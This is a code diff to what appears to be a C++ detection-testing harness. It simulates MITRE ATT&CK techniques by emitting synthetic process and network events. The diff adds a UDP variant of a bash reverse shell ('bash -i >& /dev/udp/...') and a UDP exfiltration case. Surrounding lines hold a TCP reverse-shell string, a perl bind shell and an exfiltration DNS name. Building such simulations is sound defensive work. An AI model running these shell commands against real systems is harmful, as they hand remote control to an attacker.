@@ -53,6 +53,12 @@ const std::vector<Technique> kTechniques = {
            p.Spawn(p.self(), "/usr/bin/bash", {"bash", "-c", "bash -i >& /dev/tcp/203.0.113.77/4444 0>&1"});
        p.Connect(bash, kAttacker, 4444);
      }},
+    {"T1059.004", "reverse shell over UDP: bash to an outside address", Severity::kCritical,
+     [](TechniquePlayer& p) {
+       PlayedProcess bash =
+           p.Spawn(p.self(), "/usr/bin/bash", {"bash", "-c", "bash -i >& /dev/udp/203.0.113.77/4444 0>&1"});
+       p.Connect(bash, kAttacker, 4444, kProtocolUdp);
+     }},
     {"T1059.004", "bind shell: perl listening on all addresses", Severity::kCritical,
      [](TechniquePlayer& p) {
        PlayedProcess perl = p.Spawn(p.self(), "/usr/bin/perl", {"perl", "-e", "use Socket; ..."});
@@ -189,6 +195,8 @@ const std::vector<Technique> kTechniques = {
      }},
     {"T1571", "service connects out on a new port", Severity::kMedium,
      [](TechniquePlayer& p) { p.Connect(p.self(), kAttacker, 8443); }},
+    {"T1048.003", "service sends datagrams to an outside address (exfiltration over UDP)", Severity::kMedium,
+     [](TechniquePlayer& p) { p.Connect(p.self(), kAttacker, 9999, kProtocolUdp); }},
     {"T1071.004", "service resolves a new name at a new resolver", Severity::kMedium,
      [](TechniquePlayer& p) { p.Dns(p.self(), "192.0.2.53", "a1b2c3d4e5.exfil.example"); }},
 };
@@ -290,9 +298,10 @@ Endpoint V4(const std::string& address, uint16_t port) {
 }
 }  // namespace
 
-void TechniquePlayer::Connect(const PlayedProcess& p, const std::string& address, uint16_t port) {
+void TechniquePlayer::Connect(const PlayedProcess& p, const std::string& address, uint16_t port,
+                              uint8_t protocol) {
   Event e = Base(EventKind::kConnect, p);
-  e.protocol = 6;
+  e.protocol = protocol;
   e.local = V4("10.1.2.3", 45678);
   e.peer = V4(address, port);
   Send(e);
